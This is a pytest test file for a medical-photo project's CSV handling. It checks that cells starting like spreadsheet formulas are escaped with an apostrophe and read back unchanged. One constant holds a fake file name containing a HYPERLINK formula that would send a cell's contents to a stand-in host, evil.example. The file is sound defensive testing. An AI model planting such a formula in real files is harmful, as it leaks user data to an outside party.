"""File names that a spreadsheet would run: harmless in the tables that people open, and read back as they were."""

import csv
import io
from pathlib import Path
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fundoscope.data.manifest import Manifest, Photograph
from fundoscope.data.table import as_written, no_formula, parse_table, to_csv
from fundoscope.report.tables import csv_link

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"photo").jpg'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_cell_that_begins_like_a_formula_has_an_apostrophe_in_front(start: str) -> None:
    assert no_formula(f"{start}1+1") == f"'{start}1+1"
    assert as_written(f"'{start}1+1") == f"{start}1+1"


@pytest.mark.parametrize("text", ["", "10_left.jpeg", "a=b", "it's", "'quoted'", "clinic/=x.jpg", "–"])
def test_other_cells_are_left_alone(text: str) -> None:
    assert no_formula(text) == text
    assert as_written(text) == text


@settings(deadline=None)
@given(st.text(alphabet="'=+-@\t\r\nab", max_size=6))
def test_what_was_guarded_is_read_back_as_it_was(text: str) -> None:
    assert as_written(no_formula(text)) == text
    assert no_formula(text)[:1] not in set("=+-@\t\r\n")


def test_a_manifest_with_such_names_is_safe_to_open_and_keeps_them(tmp_path: Path) -> None:
    names = (EVIL, "+1.jpg", "-2.jpg", "@x.jpg", "'=y.jpg", "plain.jpg")
    manifest = Manifest(tuple(Photograph(name, 2, patient="=1+1") for name in names), tmp_path)
    manifest.write(tmp_path / "manifest.csv")
    cells = [cell for row in csv.reader(io.StringIO((tmp_path / "manifest.csv").read_text())) for cell in row]
    assert not [cell for cell in cells if cell[:1] in set("=+-@")]
    assert "'=1+1" in cells
    assert Manifest.read(tmp_path / "manifest.csv").photographs == manifest.photographs


def test_a_table_of_reasons_is_safe_too() -> None:
    data = to_csv(("path", "reason"), [[EVIL, "-"]])
    assert data.decode().splitlines()[1].startswith("\"'=HYPERLINK")
    assert [row.cells for row in parse_table(data, name="x").rows] == [{"path": EVIL, "reason": "-"}]


def test_numbers_of_a_page_stay_numbers_and_its_texts_are_guarded() -> None:
    link = csv_link(["level", "effect"], [["=1+1", -0.5], ["-1", 2]])
    assert unquote(link).partition(",")[2].splitlines() == ["level,effect", "'=1+1,-0.5", "'-1,2"]
